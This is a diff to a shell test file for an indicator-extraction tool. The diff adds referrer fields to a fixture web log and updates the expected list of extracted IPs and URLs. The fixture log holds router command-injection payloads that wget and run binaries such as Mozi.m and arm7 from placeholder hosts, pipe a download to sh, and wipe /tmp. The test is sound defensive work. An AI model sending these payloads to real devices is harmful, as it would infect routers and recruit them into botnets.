@@ -338,21 +338,24 @@ cve:CVE-2017-11882 cve:CVE-2017-11883"
 # http://198.51.100.67:8088/Mozi.m+-O+/tmp/netgear;sh+netgear&curpath=/&...
 # and nothing of the percent-encoded link.
 cat >"$TMP/exploits.log" <<'TXT'
-203.0.113.10 - - [24/Nov/2026:10:00:03 +0000] "GET /cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(cd%20/tmp;%20wget%20http://198.51.100.66/arm7;chmod%20777%20arm7;./arm7) HTTP/1.1" 400 0 "-" "Go-http-client/1.1"
-203.0.113.11 - - [24/Nov/2026:10:00:04 +0000] "GET /setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://198.51.100.67:8088/Mozi.m+-O+/tmp/netgear;sh+netgear&curpath=/&currentsetting.htm=1 HTTP/1.0" 404 0 "-" "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/78.0.3904.108 Safari/537.36"
-203.0.113.12 - - [24/Nov/2026:10:00:05 +0000] "POST /cgi-bin/x.cgi?cmd=wget%20http%3A%2F%2F198.51.100.68%2Fbins%2Fx86%20-O%20-%7Csh HTTP/1.1" 404 0 "-" "Mozilla/5.0"
+203.0.113.10 - - [24/Nov/2026:10:00:03 +0000] "GET /cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(cd%20/tmp;%20wget%20http://198.51.100.66/arm7;chmod%20777%20arm7;./arm7) HTTP/1.1" 400 0 "http://192.0.2.80/cgi-bin/luci/" "Go-http-client/1.1"
+203.0.113.11 - - [24/Nov/2026:10:00:04 +0000] "GET /setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://198.51.100.67:8088/Mozi.m+-O+/tmp/netgear;sh+netgear&curpath=/&currentsetting.htm=1 HTTP/1.0" 404 0 "http://192.0.2.80/setup.cgi" "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/78.0.3904.108 Safari/537.36"
+203.0.113.12 - - [24/Nov/2026:10:00:05 +0000] "POST /cgi-bin/x.cgi?cmd=wget%20http%3A%2F%2F198.51.100.68%2Fbins%2Fx86%20-O%20-%7Csh HTTP/1.1" 404 0 "http://192.0.2.80/cgi-bin/x.cgi" "python-requests/2.31.0"
 TXT
-is "exploit attempts in a web log: the attackers, the download URLs and their hosts" \
+is "exploit attempts in a web log: the attackers, the download URLs and their hosts, the referring pages" \
     "$(mg ioc extract "$TMP/exploits.log" | tr '\t' : | paste -sd' ' -)" \
     "ipv4:203.0.113.10 url:http://198.51.100.66/arm7 ipv4:198.51.100.66 \
+url:http://192.0.2.80/cgi-bin/luci/ ipv4:192.0.2.80 \
 ipv4:203.0.113.11 url:http://198.51.100.67:8088/Mozi.m ipv4:198.51.100.67 \
-ipv4:203.0.113.12 url:http://198.51.100.68/bins/x86 ipv4:198.51.100.68"
+url:http://192.0.2.80/setup.cgi \
+ipv4:203.0.113.12 url:http://192.0.2.80/cgi-bin/x.cgi \
+url:http://198.51.100.68/bins/x86 ipv4:198.51.100.68"
 
 # A PGP signature whose BEGIN line ends the first part (the first 128
 # KB, cut after its last line end) and whose header field starts the
 # next: the next part starts inside the armor, and its Comment's URL is
 # none of the report's, with one thread or two.
-awk 'BEGIN { line = "The quick brown fox jumps over the lazy dog again.";
+awk 'BEGIN { line = "The host kept scanning telnet across the provider range overnight.";
 	for (n = 0; n + length(line) + 1 <= 131072 - 30; n += length(line) + 1)
 		print line
 	printf "%*s\n", 131072 - 30 - n - 1, "."
